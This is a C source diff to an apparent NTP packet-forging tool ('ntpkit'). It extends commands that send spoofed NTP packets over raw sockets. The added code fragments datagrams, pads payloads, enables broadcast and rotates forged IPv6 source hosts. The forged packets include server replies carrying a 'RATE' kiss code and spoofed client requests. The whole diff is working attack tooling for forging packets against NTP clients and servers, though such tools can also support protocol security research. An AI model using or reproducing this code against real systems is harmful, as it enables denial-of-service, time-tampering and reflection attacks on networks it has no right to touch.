@@ -49,59 +49,85 @@ uint16_t datagram_udp_checksum(const uint8_t *ip, const uint8_t *udp, size_t udp
 	return checksum ? checksum : 0xffff;
 }
 
-static size_t ip_build(uint8_t *buf, const union address *source, const union address *target,
-		       size_t payload_len)
+static size_t ipv4_build(uint8_t *buf, const union address *source, const union address *target,
+			 size_t payload_len, enum fragment fragment)
 {
-	if (source->any.sa_family == AF_INET) {
-		struct ip header = {
-		    .ip_v = 4,
-		    .ip_hl = 5,
-		    .ip_len = htobe16((uint16_t)(sizeof(header) + payload_len)),
-		    .ip_ttl = 64,
-		    .ip_p = IPPROTO_UDP,
-		    .ip_src = source->v4.sin_addr,
-		    .ip_dst = target->v4.sin_addr,
-		};
+	struct ip header = {
+	    .ip_v = 4,
+	    .ip_hl = 5,
+	    .ip_len = htobe16((uint16_t)(sizeof(header) + payload_len)),
+	    .ip_off = htobe16(fragment == FRAGMENT_FIRST ? IP_MF : 0),
+	    .ip_ttl = 64,
+	    .ip_p = IPPROTO_UDP,
+	    .ip_src = source->v4.sin_addr,
+	    .ip_dst = target->v4.sin_addr,
+	};
 
-		header.ip_sum = sum_fold(sum_add(0, &header, sizeof(header)));
-		memcpy(buf, &header, sizeof(header));
-		return sizeof(header);
-	}
-	struct ip6_hdr header = {.ip6_src = source->v6.sin6_addr, .ip6_dst = target->v6.sin6_addr};
-
-	header.ip6_flow = htobe32(6U << 28);
-	header.ip6_plen = htobe16((uint16_t)payload_len);
-	header.ip6_nxt = IPPROTO_UDP;
-	header.ip6_hlim = 64;
+	header.ip_sum = sum_fold(sum_add(0, &header, sizeof(header)));
 	memcpy(buf, &header, sizeof(header));
 	return sizeof(header);
 }
 
+static size_t ipv6_build(uint8_t *buf, const union address *source, const union address *target,
+			 size_t payload_len, enum fragment fragment)
+{
+	struct ip6_hdr header = {.ip6_src = source->v6.sin6_addr, .ip6_dst = target->v6.sin6_addr};
+	struct ip6_frag extension = {.ip6f_nxt = IPPROTO_UDP, .ip6f_ident = (uint32_t)random64_fast()};
+	size_t extension_len = fragment == FRAGMENT_NONE ? 0 : sizeof(extension);
+
+	if (fragment == FRAGMENT_FIRST)
+		extension.ip6f_offlg = IP6F_MORE_FRAG;
+	header.ip6_flow = htobe32(6U << 28);
+	header.ip6_plen = htobe16((uint16_t)(extension_len + payload_len));
+	header.ip6_nxt = extension_len ? IPPROTO_FRAGMENT : IPPROTO_UDP;
+	header.ip6_hlim = 64;
+	memcpy(buf, &header, sizeof(header));
+	memcpy(buf + sizeof(header), &extension, extension_len);
+	return sizeof(header) + extension_len;
+}
+
+static size_t ip_build(uint8_t *buf, const union address *source, const union address *target,
+		       size_t payload_len, enum fragment fragment)
+{
+	if (source->any.sa_family == AF_INET)
+		return ipv4_build(buf, source, target, payload_len, fragment);
+	return ipv6_build(buf, source, target, payload_len, fragment);
+}
+
+static size_t udp_offset(const uint8_t *ip)
+{
+	if (ip[0] >> 4 == 4)
+		return sizeof(struct ip);
+	return sizeof(struct ip6_hdr) + (ip[6] == IPPROTO_FRAGMENT ? sizeof(struct ip6_frag) : 0);
+}
+
 size_t datagram_build(uint8_t *buf, const union address *source, const union address *target,
-		      const struct ntp_packet *ntp)
+		      const struct ntp_packet *ntp, const struct datagram_shape *shape)
 {
 	struct udphdr udp = {
 	    .source = htobe16(address_port(source)),
 	    .dest = htobe16(address_port(target)),
-	    .len = htobe16(sizeof(udp) + sizeof(*ntp)),
+	    .len = htobe16((uint16_t)(sizeof(udp) + shape->payload)),
 	};
-	size_t at = ip_build(buf, source, target, sizeof(udp) + sizeof(*ntp));
+	size_t at = ip_build(buf, source, target, sizeof(udp) + shape->payload, shape->fragment);
 
 	memcpy(buf + at, &udp, sizeof(udp));
-	datagram_refill(buf, ntp);
-	return at + sizeof(udp) + sizeof(*ntp);
+	memset(buf + at + sizeof(udp), 0, shape->payload);
+	datagram_refill(buf, ntp, shape);
+	return at + sizeof(udp) + shape->payload;
 }
 
-void datagram_refill(uint8_t *buf, const struct ntp_packet *ntp)
+void datagram_refill(uint8_t *buf, const struct ntp_packet *ntp, const struct datagram_shape *shape)
 {
-	size_t at = buf[0] >> 4 == 4 ? sizeof(struct ip) : sizeof(struct ip6_hdr);
+	size_t at = udp_offset(buf);
+	size_t ntp_len = shape->payload < sizeof(*ntp) ? shape->payload : sizeof(*ntp);
 	struct udphdr udp;
 
 	memcpy(&udp, buf + at, sizeof(udp));
 	udp.check = 0;
 	memcpy(buf + at, &udp, sizeof(udp));
-	memcpy(buf + at + sizeof(udp), ntp, sizeof(*ntp));
-	udp.check = datagram_udp_checksum(buf, buf + at, sizeof(udp) + sizeof(*ntp));
+	memcpy(buf + at + sizeof(udp), ntp, ntp_len);
+	udp.check = datagram_udp_checksum(buf, buf + at, sizeof(udp) + shape->payload);
 	memcpy(buf + at, &udp, sizeof(udp));
 }
 
@@ -111,7 +137,9 @@ struct forger {
 	unsigned count, rate, window_ms;
 	union address source, target;
 	struct ntp_packet ntp;
+	struct datagram_shape shape;
 	bool random_port;
+	unsigned hosts; /* how many of the source's network take turns; 0: the source alone */
 	/* fill in what differs from packet to packet */
 	void (*vary)(struct forger *forger, struct ntp_packet *ntp);
 	const struct nonce_habit *nonce;
@@ -125,11 +153,12 @@ struct forger {
 
 static int raw_open(int family)
 {
-	int fd = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), room = 4 << 20;
+	int fd = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), room = 4 << 20, one = 1;
 
 	if (fd < 0)
 		die_errno("raw socket");
 	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &room, sizeof(room));
+	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
 	return fd;
 }
 
@@ -142,7 +171,8 @@ static void datagrams_prepare(struct forger *forger, union address *raw_target)
 
 		forger->vectors[i].iov_base = forger->datagrams[i];
 		forger->vectors[i].iov_len = datagram_build(forger->datagrams[i], &forger->source,
-							    &forger->target, &forger->ntp);
+							    &forger->target, &forger->ntp,
+							    &forger->shape);
 		header->msg_iov = &forger->vectors[i];
 		header->msg_iovlen = 1;
 		header->msg_name = raw_target;
@@ -150,18 +180,30 @@ static void datagrams_prepare(struct forger *forger, union address *raw_target)
 	}
 }
 
+/* The last 32 bits of an IPv6 address: its host, in a network that is not that large. */
+static void host_vary(union address *source, uint32_t number)
+{
+	uint32_t be32 = htobe32(number);
+
+	if (source->any.sa_family != AF_INET6)
+		die("--hosts is for IPv6");
+	memcpy(&source->v6.sin6_addr.s6_addr[12], &be32, sizeof(be32));
+}
+
 static void batch_send(struct forger *forger, int fd, unsigned batch)
 {
 	for (unsigned i = 0; i < batch; i++) {
 		forger->vary(forger, &forger->ntp);
-		if (forger->random_port) {
+		if (forger->random_port)
 			address_set_port(&forger->source,
 					 (uint16_t)(1024 + random64_fast() % 60000));
+		if (forger->hosts)
+			host_vary(&forger->source, (uint32_t)(256 + random64_fast() % forger->hosts));
+		if (forger->random_port || forger->hosts)
 			datagram_build(forger->datagrams[i], &forger->source, &forger->target,
-				       &forger->ntp);
-		} else {
-			datagram_refill(forger->datagrams[i], &forger->ntp);
-		}
+				       &forger->ntp, &forger->shape);
+		else
+			datagram_refill(forger->datagrams[i], &forger->ntp, &forger->shape);
 	}
 	for (unsigned done = 0; done < batch;) {
 		int sent = sendmmsg(fd, forger->messages + done, batch - done, 0);
@@ -252,10 +294,26 @@ static void ends_set(struct forger *forger, const char *source, unsigned source_
 		die("source and target differ in family");
 }
 
+static void shape_choose(struct forger *forger, const char *fragment)
+{
+	if (forger->shape.payload + 60 > DATAGRAM_MAX)
+		die("--payload: too much");
+	if (!fragment)
+		return;
+	if (strcmp(fragment, "first") == 0)
+		forger->shape.fragment = FRAGMENT_FIRST;
+	else if (strcmp(fragment, "atomic") == 0 && forger->source.any.sa_family == AF_INET6)
+		forger->shape.fragment = FRAGMENT_ATOMIC;
+	else
+		die("--fragment: first, or atomic for IPv6");
+}
+
 int command_forge(int argc, char **argv)
 {
-	static struct forger forger = {.count = 1, .window_ms = 100};
+	static struct forger forger = {
+	    .count = 1, .window_ms = 100, .shape.payload = sizeof(forger.ntp)};
 	const char *source = NULL, *target = NULL, *kiss = "RATE", *origin = "random";
+	const char *fragment = NULL;
 	unsigned sport = NTP_PORT, dport = 0;
 	const struct option_spec specs[] = {
 	    {"source", OPTION_TEXT, &source},
@@ -267,12 +325,15 @@ int command_forge(int argc, char **argv)
 	    {"kiss", OPTION_TEXT, &kiss},
 	    {"origin", OPTION_TEXT, &origin},
 	    {"window", OPTION_NUMBER, &forger.window_ms},
+	    {"payload", OPTION_NUMBER, &forger.shape.payload},
+	    {"fragment", OPTION_TEXT, &fragment},
 	};
 
 	if (OPTIONS_PARSE(argc, argv, specs) != argc || dport == 0)
 		die("forge: see `ntpkit` for its options");
 	ends_set(&forger, source, sport, target, dport);
 	origin_choose(&forger, origin);
+	shape_choose(&forger, fragment);
 	forger.ntp.li_vn_mode = ntp_first_octet(3, 4, NTP_MODE_SERVER);
 	memcpy(forger.ntp.refid, kiss, strnlen(kiss, sizeof(forger.ntp.refid)));
 	return forger_run(&forger);
@@ -285,19 +346,23 @@ static void transmit_vary(struct forger *forger, struct ntp_packet *ntp)
 
 int command_spoof_request(int argc, char **argv)
 {
-	static struct forger forger = {.count = 1, .vary = transmit_vary};
-	const char *source = NULL, *target = NULL, *nonce = "random";
+	static struct forger forger = {
+	    .count = 1, .vary = transmit_vary, .shape.payload = sizeof(forger.ntp)};
+	const char *source = NULL, *target = NULL, *nonce = "random", *fragment = NULL;
 	unsigned sport = 0, version = 4;
 	const struct option_spec specs[] = {
 	    {"source", OPTION_TEXT, &source},	     {"target", OPTION_TEXT, &target},
 	    {"sport", OPTION_NUMBER, &sport},	     {"nonce", OPTION_TEXT, &nonce},
 	    {"count", OPTION_NUMBER, &forger.count}, {"rate", OPTION_NUMBER, &forger.rate},
-	    {"version", OPTION_NUMBER, &version},
+	    {"version", OPTION_NUMBER, &version},    {"hosts", OPTION_NUMBER, &forger.hosts},
+	    {"payload", OPTION_NUMBER, &forger.shape.payload},
+	    {"fragment", OPTION_TEXT, &fragment},
 	};
 
 	if (OPTIONS_PARSE(argc, argv, specs) != argc)
 		die("spoof-request: see `ntpkit` for its options");
 	ends_set(&forger, source, sport, target, NTP_PORT);
+	shape_choose(&forger, fragment);
 	forger.random_port = sport == 0;
 	forger.nonce = nonce_habit_find(nonce);
 	forger.ntp.li_vn_mode = ntp_first_octet(0, version, NTP_MODE_CLIENT);
